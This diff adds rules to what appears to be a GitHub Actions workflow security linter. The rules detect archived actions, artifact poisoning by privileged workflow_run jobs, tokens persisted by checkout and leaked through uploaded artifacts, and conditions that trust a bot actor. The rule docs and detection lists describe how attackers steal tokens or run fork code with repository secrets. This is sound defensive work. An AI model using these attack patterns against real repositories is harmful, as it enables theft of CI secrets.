+  { repository: "actions/upload-release-asset", replacement: "`gh release upload`" },
+  { repository: "actions/setup-ruby", replacement: "ruby/setup-ruby" },
+  { repository: "actions/setup-haskell", replacement: "haskell-actions/setup" },
+  { repository: "actions/setup-elixir", replacement: "erlef/setup-beam" },
+  { repository: "actions-rs/*", replacement: "dtolnay/rust-toolchain and plain `cargo` commands" },
+  { repository: "gradle/gradle-build-action", replacement: "gradle/actions/setup-gradle" },
+  { repository: "sonarsource/sonarcloud-github-action", replacement: "SonarSource/sonarqube-scan-action" },
+  { repository: "semgrep/semgrep-action", replacement: "the `semgrep ci` command in a `semgrep/semgrep` container" },
+  { repository: "crazy-max/ghaction-docker-buildx", replacement: "docker/setup-buildx-action" },
+  { repository: "marvinpinto/action-automatic-releases", replacement: "`gh release create`" },
+  { repository: "marvinpinto/actions" },
+  { repository: "tibdex/github-app-token", replacement: "actions/create-github-app-token" },
+  { repository: "8398a7/action-slack", replacement: "slackapi/slack-github-action" },
+  { repository: "ilshidur/action-slack", replacement: "slackapi/slack-github-action" },
+  { repository: "azure/container-scan" },
+  { repository: "azure/get-keyvault-secrets", replacement: "the `az keyvault secret show` command" },
+  { repository: "azure/k8s-actions", replacement: "azure/k8s-deploy" },
+  { repository: "azure/webapps-container-deploy", replacement: "azure/webapps-deploy" },
+  { repository: "azure/appservice-actions", replacement: "azure/webapps-deploy" },
+  { repository: "azure/container-actions", replacement: "azure/docker-login" },
+  { repository: "cirrus-actions/rebase" },
+  { repository: "technote-space/get-diff-action", replacement: "dorny/paths-filter or `git diff --name-only`" },
+  { repository: "technote-space/auto-cancel-redundant-workflow", replacement: "a `concurrency:` group with `cancel-in-progress: true`" },
+  { repository: "jakejarvis/s3-sync-action", replacement: "the `aws s3 sync` command" },
+  { repository: "jakejarvis/firebase-deploy-action" },
+  { repository: "jakejarvis/lighthouse-action" },
+  { repository: "jakejarvis/hugo-build-action" },
+  { repository: "jakejarvis/cloudflare-purge-action" },
+  { repository: "jakejarvis/backblaze-b2-action" },
+  { repository: "paambaati/codeclimate-action" },
+  { repository: "repo-sync/pull-request", replacement: "`gh pr create`" },
+  { repository: "repo-sync/repo-sync" },
+  { repository: "maxheld83/ghpages", replacement: "actions/deploy-pages" },
+  { repository: "delaguardo/setup-graalvm", replacement: "graalvm/setup-graalvm" },
+  { repository: "artichoke/setup-rust", replacement: "dtolnay/rust-toolchain" },
+  { repository: "contributor-assistant/github-action" },
+  { repository: "youyo/aws-cdk-github-actions" },
+  { repository: "grafana/k6-action", replacement: "grafana/setup-k6-action with grafana/run-k6-action" },
+  { repository: "google/mirror-branch-action" },
+  { repository: "orf/cargo-bloat-action" },
+  { repository: "svenstaro/upx-action" },
+  { repository: "hashicorp/terraform-cdk-action" },
+  { repository: "scottbrenner/generate-changelog-action" },
+  { repository: "fregante/release-with-changelog" },
+  { repository: "z0al/dependent-issues" }
+];
+function archivedAction(owner, repo) {
+  const full = `${owner}/${repo}`.toLowerCase();
+  const ownerWide = `${owner.toLowerCase()}/*`;
+  return ARCHIVED_ACTIONS.find((entry) => entry.repository === full || entry.repository === ownerWide);
+}
+
+// server/src/rules/archived-uses.ts
+var archivedUses = {
+  id: "archived-uses",
+  title: "Action from an archived repository",
+  kinds: ["workflow", "action"],
+  severity: "medium",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "A `uses:` names an action or reusable workflow whose repository its owner has archived.",
+    why: "An archived repository gets no security fixes: when a vulnerability is found in it, or in the runtime or dependencies it bundles, nobody will release a patched version. `actions/create-release` and the `actions-rs/*` actions are still copied into new workflows years after they were abandoned.",
+    fix: "Replace the action with its maintained successor (the message names one when there is an obvious one) or with a plain command (`gh release create`, `cargo`, `aws s3 sync`)."
+  },
+  check({ file, report }) {
+    for (const site of file.uses) {
+      const reference = site.reference;
+      if (reference.kind !== "remote") continue;
+      const archived = archivedAction(reference.owner, reference.repo);
+      if (!archived) continue;
+      const end = reference.ref === null ? site.value.length : reference.refStart - 1;
+      const span = site.exact ? { start: site.valueStart, end: site.valueStart + end } : site.entry.valueSpan;
       report({
-        span: trigger.span,
-        message: `\`${trigger.name}\` runs with the base repository's secrets and a token that can write, and can be fired by ${trigger.name === "workflow_run" ? "a run started from a fork pull request" : "any fork pull request"}; ${subject} ${verb}`
+        span,
+        message: `\`${usesTarget(reference)}\` comes from an archived repository that receives no fixes${archived.replacement ? `; use ${archived.replacement} instead` : ""}`
       });
     }
   }
 };
+
+// server/src/rules/artifact-poisoning.ts
+var TRIGGERS2 = ["workflow_run", "pull_request_target", "issue_comment"];
+var ROOT = /^(\.\/?|\$\{\{\s*github\.workspace\s*\}\}\/?|\$GITHUB_WORKSPACE\/?|)$/;
+var EXEC = /* @__PURE__ */ new Set(["unzip", "tar", "7z", "bash", "sh", "source", ".", "python", "python3", "node", "chmod", "dpkg", "pip", "pip3", "npm", "eval", "expand-archive"]);
+var artifactPoisoning = {
+  id: "artifact-poisoning",
+  title: "Privileged job unpacks or runs artifacts of an untrusted run",
+  kinds: ["workflow"],
+  severity: "high",
+  confidence: "medium",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "A `workflow_run` (or other privileged) job downloads artifacts of the run that triggered it, which a fork pull request controls, into the workspace root or then extracts or executes them.",
+    why: 'Artifacts uploaded by a `pull_request` run contain whatever the pull request wanted. A `workflow_run` job that downloads them into its workspace lets them overwrite scripts, configuration or `node_modules` of the trusted checkout, and then runs them with the repository\'s secrets. GitHub Security Lab documented the pattern ("Keeping your GitHub Actions and workflows secure Part 1", 2021), and CodeQL ships `actions/artifact-poisoning` queries for it.',
+    fix: "Download into a fresh directory outside the workspace (`path: ${{ runner.temp }}/artifacts`), treat every file as untrusted data (validate a PR number with a regular expression, never `source` or execute it), and never extract archives over the checkout."
+  },
+  check({ file, report }) {
+    const workflow = file.workflow;
+    if (!workflow) return;
+    const triggers = privilegedTriggers(workflow, TRIGGERS2);
+    if (triggers.length === 0) return;
+    for (const job of workflow.jobs) {
+      const scripts = runScriptsOf(file, job);
+      const downloads = [];
+      for (const step of job.steps) {
+        const action = stepAction(file, step);
+        if (action?.name === "actions/download-artifact" && (step.with.has("run-id") || step.with.has("github-token"))) {
+          const path = input(step, "path");
+          downloads.push({ step, span: action.site.entry.valueSpan, what: "`actions/download-artifact` with `run-id`", path: path === null || ROOT.test(path.trim()) ? null : path.trim() });
+        } else if (action && /^dawidd6\/action-download-artifact$|^bettermarks\/action-artifact-download$|^aochmann\/actions-download-artifact$/.test(action.name)) {
+          const path = input(step, "path");
+          downloads.push({ step, span: action.site.entry.valueSpan, what: `\`${action.name}\``, path: path === null || ROOT.test(path.trim()) ? null : path.trim() });
+        }
+        for (const run2 of scripts) {
+          if (run2.step !== step) continue;
+          for (const command of run2.script.commands) {
+            if (command.name === "gh" && command.argv[1]?.text === "run" && command.argv[2]?.text === "download") {
+              const dir = flagValue(command, "-D", "--dir");
+              downloads.push({ step, span: run2.sourceSpan(command.span), what: "`gh run download`", path: dir === null || ROOT.test(dir.text) ? null : dir.text });
+            }
+          }
+        }
+      }
+      for (const download of downloads) {
+        const use = laterUse(scripts, download);
+        if (download.path !== null && !use) continue;
+        report({
+          span: download.span,
+          message: download.path === null ? `${download.what} in \`${triggers[0]}\` job \`${job.id}\` extracts the triggering run's artifacts into the workspace root, over the trusted checkout; a fork pull request controls their content` : `${download.what} in \`${triggers[0]}\` job \`${job.id}\` fetches the triggering run's artifacts and ${use.what} them; a fork pull request controls their content`,
+          confidence: "medium",
+          related: use ? [{ span: use.span, message: `${use.what} the artifact` }] : []
+        });
+      }
+    }
+  }
+};
+function laterUse(scripts, download) {
+  if (download.path === null) return null;
+  const dir = trimEndOf(download.path, "/");
+  for (const run2 of scripts) {
+    if (run2.step.index < download.step.index) continue;
+    for (const command of run2.script.commands) {
+      const first = command.argv[0]?.text ?? "";
+      const runsLocal = /^\.\//.test(first) && first.includes(dir.replace(/^\.\//, ""));
+      if (!runsLocal && !(EXEC.has(command.name) && mentions(command, dir))) continue;
+      {
+        const what = command.name === "unzip" || command.name === "tar" || command.name === "7z" || command.name === "expand-archive" ? "extracts" : "executes";
+        return { span: run2.sourceSpan(command.span), what };
+      }
+    }
+  }
+  return null;
+}
+function mentions(command, dir) {
+  const needle = dir.replace(/^\.\//, "");
+  return needle.length > 0 && (args(command).some((word) => word.text.includes(needle)) || command.argv[0].text.includes(needle));
+}
 
 // server/src/fixes/edits.ts
 function insertLinesAbove(file, offset, lines) {
@@ -8687,6 +11133,965 @@ function applyEdits(text, edits) {
   }
   return result;
 }
+
+// server/src/fixes/step-inputs.ts
+function setStepInput(file, step, name, value) {
+  const lines = file.lines;
+  const eol = lines.eol;
+  const withEntry = step.get("with");
+  const existing = step.with.get(name);
+  if (existing) {
+    if (existing.value && !("value" in existing.value)) return null;
+    return [{ span: existing.valueSpan.end > existing.valueSpan.start ? existing.valueSpan : { start: existing.keySpan.end + 1, end: existing.keySpan.end + 1 }, newText: existing.valueSpan.end > existing.valueSpan.start ? value : ` ${value}` }];
+  }
+  const stepMap = step.map;
+  if (!stepMap || stepMap.flow) return null;
+  if (withEntry && withEntry.value && isMap(withEntry.value)) {
+    const map2 = withEntry.value;
+    const first = step.with.entries[0];
+    if (map2.flow) {
+      const end = withEntry.valueSpan.end;
+      if (file.text[end - 1] !== "}") return null;
+      const last = step.with.entries[step.with.entries.length - 1];
+      if (!last) return [{ span: { start: end - 1, end: end - 1 }, newText: `${name}: ${value}` }];
+      const at2 = Math.max(last.valueSpan.end, last.keySpan.end);
+      return [{ span: { start: at2, end: at2 }, newText: `, ${name}: ${value}` }];
+    }
+    if (!first) return null;
+    const line = lines.lineAt(first.keySpan.start);
+    const column2 = first.keySpan.start - lines.lineStarts[line];
+    if (lines.lineText(line).slice(0, column2).trim() !== "") return null;
+    let at = line;
+    const indent2 = " ".repeat(column2);
+    while (at > 0 && /^\s*#/.test(lines.lineText(at - 1)) && lines.indentation(at - 1) === indent2) at--;
+    return [{ span: { start: lines.lineStarts[at], end: lines.lineStarts[at] }, newText: `${indent2}${name}: ${value}${eol}` }];
+  }
+  if (withEntry && !isNullValue(withEntry.value)) return null;
+  const anchor = withEntry ?? step.uses ?? step.entries[0];
+  if (!anchor) return null;
+  const anchorLine = lines.lineAt(anchor.keySpan.start);
+  const column = anchor.keySpan.start - lines.lineStarts[anchorLine];
+  const unit = indentStep(file);
+  const indent = " ".repeat(column);
+  if (withEntry) {
+    const lineEnd2 = lines.lineContentEnd(anchorLine);
+    const after = file.text.slice(withEntry.keySpan.end, lineEnd2);
+    if (!/^:\s*(#.*)?$/.test(after)) return null;
+    return [{ span: { start: lineEnd2, end: lineEnd2 }, newText: `${eol}${indent}${unit}${name}: ${value}` }];
+  }
+  const valueEnd = Math.max(anchor.valueSpan.end, anchor.keySpan.end);
+  const endLine = lines.lineAt(valueEnd);
+  const lineEnd = lines.lineContentEnd(endLine);
+  if (file.text.slice(valueEnd, lineEnd).trim() !== "" && !/^\s*#/.test(file.text.slice(valueEnd, lineEnd))) return null;
+  return [{ span: { start: lineEnd, end: lineEnd }, newText: `${eol}${indent}with:${eol}${indent}${unit}${name}: ${value}` }];
+}
+
+// server/src/rules/artipacked.ts
+var UPLOADERS = ["actions/upload-artifact", "actions/upload-pages-artifact", "actions/cache", "actions/cache/save"];
+var PUSHERS = ["stefanzweifel/git-auto-commit-action", "ad-m/github-push-action", "ec-nantes/push-action", "endbug/add-and-commit", "github-actions-x/commit", "changesets/action", "peter-evans/create-pull-request", "cpina/github-action-push-to-another-repository"];
+function uploadsWorkspace(file, step) {
+  if (!stepUses(file, step, ...UPLOADERS)) return false;
+  const path = input(step, "path");
+  if (path === null) return false;
+  return path.split(/\r?\n/).some((line) => {
+    const item = line.trim().replace(/^['"]|['"]$/g, "");
+    return /^(\.{1,2}\/?|\$\{\{\s*github\.workspace\s*\}\}\/?|\$GITHUB_WORKSPACE\/?|\*\*?|\.\/\*\*?)$/.test(item);
+  });
+}
+function gitRemoteSteps(file) {
+  const steps = /* @__PURE__ */ new Set();
+  for (const run2 of runScripts(file)) {
+    if (run2.script.commands.some((command) => command.name === "git" && command.argv.some((word) => word.text === "push" || word.text === "fetch" || word.text === "pull"))) steps.add(run2.step);
+  }
+  return steps;
+}
+var LaterSteps = class {
+  constructor(file, steps, gitSteps) {
+    this.file = file;
+    this.steps = steps;
+    this.gitSteps = gitSteps;
+  }
+  file;
+  steps;
+  gitSteps;
+  uploads;
+  pushes;
+  uploadAfter(index) {
+    if (!this.uploads) {
+      this.uploads = new Array(this.steps.length);
+      let next;
+      for (let i = this.steps.length - 1; i >= 0; i--) {
+        this.uploads[i] = next;
+        if (uploadsWorkspace(this.file, this.steps[i])) next = this.steps[i];
+      }
+    }
+    return this.uploads[index];
+  }
+  pushAfter(index) {
+    if (!this.pushes) {
+      const git = this.gitSteps();
+      this.pushes = new Array(this.steps.length);
+      let later = false;
+      for (let i = this.steps.length - 1; i >= 0; i--) {
+        this.pushes[i] = later;
+        const step = this.steps[i];
+        if (git.has(step) || stepUses(this.file, step, ...PUSHERS)) later = true;
+      }
+    }
+    return this.pushes[index];
+  }
+};
+var LOWER = { high: "medium", medium: "low", low: "informational", informational: "informational" };
+var artipacked = {
+  id: "artipacked",
+  title: "Checkout leaves the token in .git/config",
+  kinds: ["workflow", "action"],
+  severity: "medium",
+  confidence: "low",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "`actions/checkout` without `persist-credentials: false` writes the job's token into the checkout, where every later step, and every artifact of the workspace, can read it.",
+    why: 'In "ArtiPACKED" (Palo Alto Unit 42, 2024) public repositories of Google, Microsoft, AWS, Red Hat and others uploaded their whole workspace as an artifact: `.git/config` inside it held the `GITHUB_TOKEN` (and sometimes a PAT) that `actions/checkout` had persisted, and anyone could download the artifact and race the job to use the token. Astral sets `persist-credentials: false` on every checkout (uv: 132 of 132).',
+    fix: "Add `persist-credentials: false` under the checkout's `with:`. A later step that really needs to push can pass the token explicitly (e.g. `git push https://x-access-token:${GH_TOKEN}@github.com/...` with `GH_TOKEN` in that step's `env:`)."
+  },
+  check({ file, report }) {
+    let gitSteps;
+    const gitRemote = () => gitSteps ??= gitRemoteSteps(file);
+    const laterOf = /* @__PURE__ */ new Map();
+    for (const { step, steps } of allSteps(file)) {
+      const action = stepUses(file, step, "actions/checkout");
+      if (!action) continue;
+      const persist = step.with.get("persist-credentials");
+      const value = persist ? input(step, "persist-credentials") : null;
+      let later = laterOf.get(steps);
+      if (!later) laterOf.set(steps, later = new LaterSteps(file, steps, gitRemote));
+      const upload = later.uploadAfter(step.index);
+      const major = actionMajorVersion(file, action);
+      const modern = major !== null && major >= 6;
+      const span = action.site.entry.valueSpan;
+      const related2 = upload ? [{ span: upload.uses.valueSpan, message: "uploads the workspace, .git/config included" }] : [];
+      if (value !== null && value.trim().toLowerCase() === "false") continue;
+      if (value !== null && value.trim().toLowerCase() === "true") {
+        report({
+          span: persist.valueSpan,
+          message: `\`persist-credentials: true\` keeps the token in the checkout for every later step${upload ? ", and a later step uploads the workspace" : ""}`,
+          severity: upload ? "high" : "low",
+          confidence: upload ? "high" : "medium",
+          persona: upload ? "regular" : "auditor",
+          related: related2
+        });
+        continue;
+      }
+      if (value !== null) {
+        report({ span: persist.valueSpan, message: "`persist-credentials` is computed; when it is true the token stays in .git/config", severity: "low", confidence: "low", persona: "pedantic", related: related2 });
+        continue;
+      }
+      let severity = upload ? "high" : "medium";
+      if (modern) severity = LOWER[severity];
+      const pushes = !upload && later.pushAfter(step.index);
+      const where = modern ? "a credentials file the git config points to" : "`.git/config`";
+      report({
+        span,
+        message: upload ? `\`${action.site.value}\` persists the token in ${where} and a later step uploads the workspace: anyone who can download the artifact gets the token` : pushes ? `\`${action.site.value}\` persists the token in ${where}; a later step pushes with it. Prefer \`persist-credentials: false\` and pass the token to that step only` : `\`${action.site.value}\` persists the token in ${where}, readable by every later step; add \`persist-credentials: false\``,
+        severity: pushes ? "low" : severity,
+        confidence: upload ? "high" : "low",
+        persona: pushes ? "pedantic" : "regular",
+        related: related2,
+        fixes: () => {
+          const edits = setStepInput(file, step, "persist-credentials", "false");
+          return edits ? [{ title: "Add `persist-credentials: false`", isPreferred: true, safety: "unsafe", edits }] : [];
+        }
+      });
+    }
+  }
+};
+
+// server/src/rules/support/evaluated-expressions.ts
+function conditions(file) {
+  const found = [];
+  if (file.workflow) {
+    for (const job of file.workflow.jobs) {
+      if (job.if) found.push({ entry: job.if, owner: `job \`${job.id}\`` });
+      for (const step of job.steps) if (step.if) found.push({ entry: step.if, owner: `step \`${step.label}\` of job \`${job.id}\`` });
+    }
+  }
+  if (file.action) {
+    for (const step of file.action.steps) if (step.if) found.push({ entry: step.if, owner: `step \`${step.label}\`` });
+  }
+  return found;
+}
+function conditionEntries(file) {
+  return conditions(file).map((condition) => condition.entry);
+}
+function evaluatedExpressions(file) {
+  let cached = evaluatedCache.get(file);
+  if (!cached) evaluatedCache.set(file, cached = computeEvaluatedExpressions(file));
+  return cached;
+}
+var evaluatedCache = new AttachedCache("evaluated-expressions", attachmentsOf);
+var Evaluated = class {
+  constructor(span, text, relative3, shift, exact, isCondition, fence) {
+    this.span = span;
+    this.text = text;
+    this.relative = relative3;
+    this.shift = shift;
+    this.exact = exact;
+    this.isCondition = isCondition;
+    this.fence = fence;
+  }
+  span;
+  text;
+  relative;
+  shift;
+  exact;
+  isCondition;
+  fence;
+  shifted;
+  get tree() {
+    return this.relative.ast;
+  }
+  get parsed() {
+    return this.shifted ??= this.shift();
+  }
+};
+function computeEvaluatedExpressions(file) {
+  const result = [];
+  const entries = conditionEntries(file);
+  const conditionScalars = new Set(entries.map((entry) => entry.value));
+  for (const site of file.expressions) {
+    const occurrence = site.occurrence;
+    if (!occurrence.terminated || !occurrence.parsed.ast) continue;
+    const exact = file.text.slice(occurrence.innerStart, occurrence.innerEnd) === occurrence.text;
+    result.push(
+      new Evaluated(
+        { start: occurrence.innerStart, end: occurrence.innerEnd },
+        occurrence.text,
+        occurrence.parsed,
+        () => absoluteParse(occurrence),
+        exact,
+        conditionScalars.has(site.scalar),
+        { start: occurrence.start, end: occurrence.end }
+      )
+    );
+  }
+  for (const entry of entries) {
+    const scalar = asScalar(entry.value);
+    if (!scalar || typeof scalar.value !== "string" || scalar.value.includes("${{")) continue;
+    const text = scalar.value;
+    if (text.trim() === "") continue;
+    const offset = valueOffsetInSource(scalar, file.text);
+    const parsed = parseExpression(text);
+    if (!parsed.ast) continue;
+    const start = offset ?? entry.valueSpan.start;
+    result.push(new Evaluated(offset !== null ? { start, end: start + text.length } : entry.valueSpan, text, parsed, () => shiftParsed(parsed, start), offset !== null, true, null));
+  }
+  return result;
+}
+function walkFencedExpressions(file, visit3) {
+  for (const site of file.expressions) {
+    const ast = site.occurrence.terminated ? site.occurrence.parsed.ast : null;
+    if (!ast) continue;
+    const base2 = site.occurrence.innerStart;
+    walkExpression(ast, (node) => visit3(node, { start: base2 + node.start, end: base2 + node.end }));
+  }
+}
+
+// server/src/rules/bot-conditions.ts
+var LOGIN_PATHS = /* @__PURE__ */ new Set(["github.actor", "github.triggering_actor", "github.event.sender.login", "github.event.pull_request.sender.login"]);
+var ID_PATHS = /* @__PURE__ */ new Set(["github.actor_id", "github.triggering_actor_id", "github.event.sender.id", "github.event.pull_request.sender.id"]);
+var BOT_IDS = /* @__PURE__ */ new Set(["49699333", "27856297", "29139614", "29110"]);
+var AUTHOR_FIELDS = {
+  pull_request: { login: "github.event.pull_request.user.login", id: "github.event.pull_request.user.id" },
+  pull_request_target: { login: "github.event.pull_request.user.login", id: "github.event.pull_request.user.id" },
+  pull_request_review: { login: "github.event.pull_request.user.login", id: "github.event.pull_request.user.id" },
+  pull_request_review_comment: { login: "github.event.pull_request.user.login", id: "github.event.pull_request.user.id" },
+  issues: { login: "github.event.issue.user.login", id: "github.event.issue.user.id" }
+};
+function unwrap(node) {
+  while (node.type === "group") node = node.expr;
+  return node;
+}
+function actorPath(node) {
+  const inner = unwrap(node);
+  const path = contextPath(inner, { caseInsensitive: true });
+  if (!path) return null;
+  if (LOGIN_PATHS.has(path)) return { path, kind: "login", node: inner };
+  if (ID_PATHS.has(path)) return { path, kind: "id", node: inner };
+  return null;
+}
+function isBotLiteral(node, kind) {
+  const inner = unwrap(node);
+  if (inner.type !== "literal") return null;
+  if (kind === "login") return inner.kind === "string" && /\[bot\]$/i.test(String(inner.value).trim()) ? String(inner.value) : null;
+  return (inner.kind === "number" || inner.kind === "string") && BOT_IDS.has(String(inner.value).trim()) ? String(inner.value) : null;
+}
+function matchOf(node) {
+  if (node.type === "binary" && node.op === "==") {
+    for (const [a, b] of [
+      [node.left, node.right],
+      [node.right, node.left]
+    ]) {
+      const actor = actorPath(a);
+      const bot = actor ? isBotLiteral(b, actor.kind) : null;
+      if (actor && bot) return { node, actor, bot };
+    }
+    return null;
+  }
+  if (node.type === "call" && node.args.length === 2) {
+    const name = node.name.toLowerCase();
+    if (name === "endswith" || name === "startswith") {
+      const actor = actorPath(node.args[0]);
+      const literal = unwrap(node.args[1]);
+      if (actor?.kind === "login" && literal.type === "literal" && literal.kind === "string" && /bot/i.test(String(literal.value))) return { node, actor, bot: String(literal.value) };
+    }
+    if (name === "contains") {
+      const actor = actorPath(node.args[1]);
+      if (!actor) return null;
+      let bot = null;
+      walkExpression(node.args[0], (inner) => {
+        if (inner.type === "literal" && (inner.kind === "string" || inner.kind === "number")) {
+          const value = String(inner.value);
+          if (actor.kind === "login" && /\[bot\]/i.test(value) || actor.kind === "id" && [...BOT_IDS].some((id) => value.includes(id))) bot = value;
+        }
+      });
+      if (bot) return { node, actor, bot };
+    }
+  }
+  return null;
+}
+var botConditions = {
+  id: "bot-conditions",
+  title: "Condition trusts the actor because it is a bot",
+  kinds: ["workflow"],
+  severity: "high",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "An `if:` compares `github.actor`, `github.triggering_actor` or `github.event.sender.login` (or their ids) with a bot such as `dependabot[bot]` to decide that a run is trustworthy.",
+    why: "`github.actor` is whoever caused the latest event, not who wrote the pull request. On `pull_request_target` an attacker can open a pull request and get Dependabot to act on it (for example by having it update a branch of their fork), so the latest event's actor is `dependabot[bot]` and the step meant for Dependabot's own pull requests (auto-merge, secrets, a write token) runs for the attacker's code.",
+    fix: "Check who opened the pull request instead: `github.event.pull_request.user.login == 'dependabot[bot]'` (the quick fix does this when the workflow has a single pull request or issue trigger), and for Dependabot use `dependabot/fetch-metadata`."
+  },
+  check({ file, report }) {
+    if (!file.workflow) return;
+    const triggers = scopeTriggers(file);
+    const outsider = triggers ? triggers.filter((trigger) => triggerInfo(trigger)?.outsiderCanFire) : [];
+    const single = triggers && triggers.length === 1 ? AUTHOR_FIELDS[triggers[0]] : void 0;
+    for (const expression of evaluatedExpressions(file)) {
+      if (!expression.isCondition || !/actor|sender/i.test(expression.text)) continue;
+      const ast = expression.parsed.ast;
+      if (!ast) continue;
+      const matches2 = [];
+      walkExpression(ast, (node) => {
+        const match = matchOf(node);
+        if (match) {
+          matches2.push(match);
+          return false;
+        }
+        return void 0;
+      });
+      if (matches2.length === 0) continue;
+      const parents = /* @__PURE__ */ new Map();
+      walkExpression(ast, (node, parent) => {
+        parents.set(node, parent);
+      });
+      for (const match of matches2) {
+        let dominating = true;
+        let negated = false;
+        for (let up = parents.get(match.node) ?? null; up; up = parents.get(up) ?? null) {
+          if (up.type === "unary") negated = !negated;
+          else if (up.type === "binary" && up.op === "||") continue;
+          else if (up.type !== "group") dominating = false;
+        }
+        if (negated) continue;
+        const actorText = match.actor.path;
+        let fixes = [];
+        if (single && expression.exact) {
+          const replacement = match.actor.kind === "login" ? single.login : single.id;
+          fixes = [
+            {
+              title: `Compare the author, \`${replacement}\`, instead of \`${actorText}\``,
+              isPreferred: true,
+              safety: "safe",
+              edits: [{ span: { start: match.actor.node.start, end: match.actor.node.end }, newText: replacement }]
+            }
+          ];
+        }
+        const severity = triggers === null ? "medium" : outsider.length > 0 ? "high" : "low";
+        const why = outsider.length > 0 ? `on ${outsider.map((t) => `\`${t}\``).join(", ")} an attacker can make a bot the actor of an event on their own ${outsider.some((t) => t.startsWith("pull_request") || t === "workflow_run") ? "pull request" : "issue or pull request"}` : triggers === null ? "the caller's event decides who the actor is" : "the actor is whoever caused the latest event, not who wrote the code";
+        report({
+          span: { start: match.node.start, end: match.node.end },
+          message: `\`${actorText}\` is checked against \`${match.bot}\`: ${why}, so this condition ${dominating ? "passes" : "can pass"} for their code${single ? `; compare \`${match.actor.kind === "login" ? single.login : single.id}\` instead` : ""}`,
+          severity,
+          confidence: dominating ? "high" : "medium",
+          persona: severity === "low" ? "pedantic" : "regular",
+          fixes
+        });
+      }
+    }
+  }
+};
+
+// server/src/knowledge/cache-actions.ts
+var always = () => true;
+var never = () => false;
+var CACHE_ACTIONS = [
+  { name: "actions/cache", input: null, defaultOn: always, semantics: "truthy", off: null, source: "actions/cache action.yml (lookup-only only skips the download)" },
+  { name: "actions/cache/restore", input: null, defaultOn: always, semantics: "truthy", off: null, source: "actions/cache restore/action.yml", mode: "restore" },
+  { name: "actions/cache/save", input: null, defaultOn: always, semantics: "truthy", off: null, source: "actions/cache save/action.yml", mode: "save" },
+  {
+    name: "actions/setup-node",
+    input: "cache",
+    // v5 caches npm automatically when package.json has a `packageManager` field (`package-manager-cache`, default true).
+    defaultOn: (major) => major !== null && major >= 5 ? "conditional" : false,
+    semantics: "nonempty",
+    off: { remove: true, orSet: { input: "package-manager-cache", value: "false" } },
+    source: 'actions/setup-node README, "Caching global packages data"; v5 release notes'
+  },
+  { name: "actions/setup-python", input: "cache", defaultOn: never, semantics: "nonempty", off: { remove: true }, source: "actions/setup-python action.yml" },
+  { name: "actions/setup-java", input: "cache", defaultOn: never, semantics: "nonempty", off: { remove: true }, source: "actions/setup-java action.yml" },
+  { name: "actions/setup-dotnet", input: "cache", defaultOn: never, semantics: "truthy", off: { set: "false" }, source: "actions/setup-dotnet action.yml" },
+  { name: "actions/setup-go", input: "cache", defaultOn: (major) => major === null || major >= 4, semantics: "truthy", off: { set: "false" }, source: "actions/setup-go action.yml (default true since v4)" },
+  { name: "astral-sh/setup-uv", input: "enable-cache", defaultOn: (major) => major === null || major >= 6, semantics: "truthy", off: { set: "false" }, source: "astral-sh/setup-uv action.yml (`auto`, the default since v6: on for GitHub-hosted runners)" },
+  { name: "swatinem/rust-cache", input: null, defaultOn: always, semantics: "truthy", off: null, source: "Swatinem/rust-cache README" },
+  { name: "ruby/setup-ruby", input: "bundler-cache", defaultOn: never, semantics: "truthy", off: { set: "false" }, source: "ruby/setup-ruby action.yml" },
+  { name: "pyo3/maturin-action", input: "sccache", defaultOn: never, semantics: "truthy", off: { set: "false" }, source: "PyO3/maturin-action action.yml" },
+  { name: "mozilla-actions/sccache-action", input: null, defaultOn: always, semantics: "truthy", off: null, source: "mozilla-actions/sccache-action README" },
+  { name: "nix-community/cache-nix-action", input: null, defaultOn: always, semantics: "truthy", off: null, source: "nix-community/cache-nix-action README" },
+  { name: "awalsh128/cache-apt-pkgs-action", input: null, defaultOn: always, semantics: "truthy", off: null, source: "awalsh128/cache-apt-pkgs-action README" },
+  { name: "gradle/actions/setup-gradle", input: "cache-disabled", defaultOn: always, semantics: "inverted", off: { set: "true" }, source: "gradle/actions setup-gradle action.yml" },
+  { name: "gradle/gradle-build-action", input: "cache-disabled", defaultOn: always, semantics: "inverted", off: { set: "true" }, source: "gradle/gradle-build-action action.yml" },
+  { name: "jdx/mise-action", input: "cache", defaultOn: always, semantics: "truthy", off: { set: "false" }, source: "jdx/mise-action action.yml" },
+  { name: "denoland/setup-deno", input: "cache", defaultOn: never, semantics: "truthy", off: { set: "false" }, source: "denoland/setup-deno action.yml (v2)" },
+  { name: "pdm-project/setup-pdm", input: "cache", defaultOn: never, semantics: "truthy", off: { set: "false" }, source: "pdm-project/setup-pdm action.yml" },
+  { name: "prefix-dev/setup-pixi", input: "cache", defaultOn: () => "conditional", semantics: "truthy", off: { set: "false" }, source: "prefix-dev/setup-pixi README (on when a lock file exists)" },
+  { name: "oven-sh/setup-bun", input: "no-cache", defaultOn: () => false, semantics: "inverted", off: null, source: "oven-sh/setup-bun action.yml (caches the bun binary only)" }
+];
+var byName2 = new Map(CACHE_ACTIONS.map((action) => [action.name, action]));
+function cacheAction(name) {
+  return byName2.get(name.toLowerCase());
+}
+function cacheEnabled(action, value, major) {
+  if (action.input === null) return action.defaultOn(major);
+  if (value === null) return action.defaultOn(major);
+  const text = value.trim();
+  if (text.includes("${{")) return "unknown";
+  const lower2 = text.toLowerCase();
+  if (action.semantics === "inverted") return lower2 === "true" ? false : lower2 === "false" ? true : action.defaultOn(major);
+  if (action.semantics === "nonempty") return lower2 !== "" && lower2 !== "false";
+  if (lower2 === "auto") return true;
+  return lower2 === "true";
+}
+
+// server/src/knowledge/pr-checkout.ts
+var PR_REF = /github\.event\.pull_request\.head\.(sha|ref)|github\.event\.pull_request\.merge_commit_sha|github\.head_ref|github\.event\.workflow_run\.head_(sha|branch)|github\.event\.workflow_run\.pull_requests|refs\/pull\/|github\.event\.issue\.number|github\.event\.number|github\.event\.pull_request\.number|pull\/\$\{\{|steps\.[\w-]+\.outputs\.[\w-]*(head|sha|ref|pr|branch)/i;
+var PR_REPO = /github\.event\.pull_request\.head\.repo\.(full_name|name|clone_url)|github\.event\.workflow_run\.head_repository\.(full_name|clone_url)|steps\.[\w-]+\.outputs\.[\w-]*repo/i;
+function checkoutOf(file, step) {
+  const action = stepAction(file, step);
+  if (action?.name === "actions/checkout") {
+    const ref2 = step.with.get("ref");
+    const repository = step.with.get("repository");
+    const refText = input(step, "ref") ?? "";
